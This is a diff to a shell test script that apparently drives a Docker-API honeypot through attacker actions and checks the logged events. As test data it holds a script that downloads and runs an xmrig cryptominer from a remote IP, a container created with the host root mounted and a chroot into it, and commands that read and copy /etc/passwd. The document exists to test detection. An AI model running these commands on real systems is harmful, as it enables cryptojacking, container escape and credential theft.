@@ -44,9 +44,12 @@ dk logs web | has 'GET / HTTP/1.1' || fail "logs"
 dk inspect -f '{{.State.Running}} {{.Config.Image}}' web | has -x 'true nginx:1.23' || fail "inspect"
 printf '#!/bin/sh\ncurl -s http://203.0.113.9/xmrig -o /tmp/x && /tmp/x -o pool.example.net:3333\n' >"$W/m.sh"
 dk cp "$W/m.sh" web:/tmp/ || fail "cp"
+mkdir -p "$W/out"
+dk cp web:/etc/passwd "$W/out/" || fail "cp from the container"
+head -1 "$W/out/passwd" | has '^root:x:0:0:' || fail "copied passwd: $(cat "$W/out/passwd")"
 hp_stop
 
-[ "$(hp_count '.eventid=="docker.image.create" and .request.image=="alpine:3.20"')" = 1 ] || fail "pull event"
+[ "$(hp_count '.eventid=="docker.image.create" and (.request.image|test("^(docker.io/library/)?alpine:3.20$"))')" = 1 ] || fail "pull event"
 [ "$(hp_count '.eventid=="docker.container.create" and .request.binds==["/:/host"] and .request.cmd==["chroot","/host","sh"]')" = 1 ] || fail "create event"
 [ "$(hp_count '.eventid=="docker.container.attach"')" -ge 3 ] || fail "attach events"
 [ "$(hp_count '.eventid=="docker.stdin" and .request.line=="whoami"')" = 1 ] || fail "stdin line 1"
@@ -55,6 +58,7 @@ hp_stop
 [ "$(hp_count '.eventid=="docker.exec.create" and .request.container=="web" and .request.cmd==["sh","-c","cat /etc/passwd | head -1; whoami"]')" = 1 ] || fail "exec create event"
 [ "$(hp_count '.eventid=="docker.exec.start" and .request.cmd=="cat /etc/passwd | head -1; whoami"')" = 1 ] || fail "exec start event"
 sum=$(sha256sum "$W/m.sh" | cut -d' ' -f1)
-[ "$(hp_count '.eventid=="docker.container.archive.put" and .request.target=="/tmp/" and .request.files[0].name=="m.sh" and .request.files[0].sha256=="'"$sum"'" and (.request.files[0].head|test("xmrig"))')" = 1 ] \
+[ "$(hp_count '.eventid=="docker.container.archive.put" and .request.target=="/tmp/" and .request.files[0].name=="m.sh" and .request.files[0].sha256=="'"$sum"'" and ((.request.files[0].head // "")|test("xmrig"))')" = 1 ] \
   || fail "cp upload event"
+[ "$(hp_count '.eventid=="docker.container.archive.get" and .request.target=="/etc/passwd"')" = 1 ] || fail "cp out event"
 echo "ok: docker $(hp_count '.service=="docker" and (.eventid|startswith("session.")|not)') steps logged"
